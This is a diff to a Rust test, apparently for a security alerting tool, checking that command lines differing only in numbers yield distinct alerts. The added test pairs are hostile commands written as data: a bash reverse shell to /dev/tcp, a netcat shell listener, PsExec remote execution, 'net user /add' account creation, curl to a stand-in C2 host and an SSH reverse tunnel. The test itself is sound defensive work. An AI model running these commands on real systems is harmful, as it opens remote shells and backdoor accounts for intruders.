@@ -292,6 +292,14 @@ fn the_numbers_that_a_command_was_given_are_news() {
         ("nc -l 80 -e sh", "nc -l 4444 -e sh"),
         ("curl http://a.example:8080/x", "curl http://a.example:9090/x"),
         ("x -a 1 -b 2 -c 3 -d 4 -e 5", "x -a 1 -b 2 -c 3 -d 4 -e 6"),
+        (r"PsExec \\\\srv-01 cmd", r"PsExec \\\\srv-02 cmd"),
+        ("net user svc-01 /add", "net user svc-02 /add"),
+        ("curl http://c2-01.example/a", "curl http://c2-02.example/a"),
+        (
+            "bash -i >& /dev/tcp/203.0.113.9/4444",
+            "bash -i >& /dev/tcp/203.0.113.9/5555",
+        ),
+        ("ssh -R 4444:localhost:22 a", "ssh -R 5555:localhost:22 a"),
     ] {
         for (alert, pointer) in [(&command, field("commandLine")), (&sudo, "/data/command".to_owned())] {
             assert_differ(alert, &pointer, one, other);
